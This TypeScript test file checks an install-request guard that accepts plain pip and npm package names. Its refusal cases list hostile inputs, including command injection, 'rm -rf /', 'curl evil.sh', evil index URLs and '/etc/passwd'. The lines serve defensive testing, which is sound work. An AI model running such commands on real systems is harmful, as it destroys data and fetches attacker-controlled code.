// The install request guard: the command picks the ecosystem, every package is a bare name with an
// optional version, and every hostile form of a request (see install-request.ts) is refused.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../errors';
import { planInstall } from './install-request';
import { npmPackageFor } from './analysis/package-names';

describe('install requests', () => {
  it('accepts plain names and versions for pip and npm', () => {
    expect(planInstall({ command: 'pip install python-telegram-bot requests>=2.31 python-dotenv' })).toEqual({
      ecosystem: 'pip',
      packages: ['python-telegram-bot', 'requests>=2.31', 'python-dotenv'],
    });
    expect(planInstall({ command: 'pip3 install', dependencies: ['discord.py', 'uvicorn[standard]', 'flask==3.0.3', 'numpy>=1.26,<2'] }).packages).toHaveLength(4);
    expect(planInstall({ command: 'npm install telegraf @slack/bolt axios@^1.7 dotenv@16' })).toEqual({
      ecosystem: 'npm',
      packages: ['telegraf', '@slack/bolt', 'axios@^1.7', 'dotenv@16'],
    });
    expect(planInstall({ command: 'npm install', dependencies: ['a', 'a'] }).packages).toEqual(['a']);
  });

  it.each([
    'pip install requests; rm -rf /',
    'pip install $(id)',
    'pip install `id`',
    'pip install requests && curl evil.sh',
    'pip install requests\nrm -rf /',
    'pip install --index-url http://evil requests',
    'pip install -r /etc/passwd',
    'pip install git+https://github.com/x/y',
    'pip install ../pkg',
    'pip install -e .',
    'pip install https://evil.example/pkg.whl',
    'pip install /tmp/pkg.tar.gz',
    'npm i x --unsafe-perm',
    'npm install ../../x',
    'npm install git+ssh://git@github.com/x/y',
    'npm install file:../x',
    'npm install x@"$(id)"',
    'npm install x|y',
    'yarn add x',
    'bash -c "pip install x"',
    'pip install',
  ])('refuses %j with 400', (command) => {
    let error: unknown;
    try {
      planInstall({ command });
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe('BAD_REQUEST');
  });

  it('takes the same npm names as the import analysis, where their two grammars once disagreed', () => {
    const installs = (name: string) => {
      try {
        return planInstall({ command: 'npm install', dependencies: [name] }).packages[0] === name;
      } catch {
        return false;
      }
    };
    const names: Array<[string, boolean]> = [
      ['-foo', false],
      ['a~b', false],
      ["@scope'x/pkg", false],
      ['node_modules', false],
      ['favicon.ico', false],
      ['_private', false],
      ['Upper', false],
      ['x'.repeat(215), false],
      ['a..b', true],
      ['@-x/pkg', true],
      ['lodash.get', true],
      ['@slack/bolt', true],
    ];
    for (const [name, valid] of names) {
      expect([name, installs(name)]).toEqual([name, valid]);
      expect([name, npmPackageFor(name)]).toEqual([name, valid ? name : null]);
    }
    // Packages named like Node's core modules install; an import of one is Node's own module.
    expect(installs('events')).toBe(true);
    expect(npmPackageFor('events')).toBeNull();
  });

  it('checks dependencies[] one by one and caps their number', () => {
    expect(() => planInstall({ command: 'pip install', dependencies: ['requests', '--extra-index-url=http://evil'] })).toThrow(AppError);
    expect(() => planInstall({ command: 'npm install', dependencies: Array.from({ length: 51 }, (_, i) => `p${i}`) })).toThrow(/At most 50/);
  });

  it('never lets a shell or option character through, whatever the input', () => {
    fc.assert(
      fc.property(fc.constantFrom('pip install', 'npm install'), fc.array(fc.string({ maxLength: 30 }), { maxLength: 5 }), (command, deps) => {
        try {
          const plan = planInstall({ command, dependencies: deps });
          for (const p of plan.packages) {
            // A scope ('@scope/name') is the only place a slash may appear.
            expect(p.replace(/^@[a-z0-9._~-]+\//, '')).not.toMatch(/[;&|`$()'"\\\n\r\0/:]|^-|\s-/);
          }
        } catch (err) {
          expect(err).toBeInstanceOf(AppError);
        }
      }),
      { numRuns: 2000 },
    );
  });
});
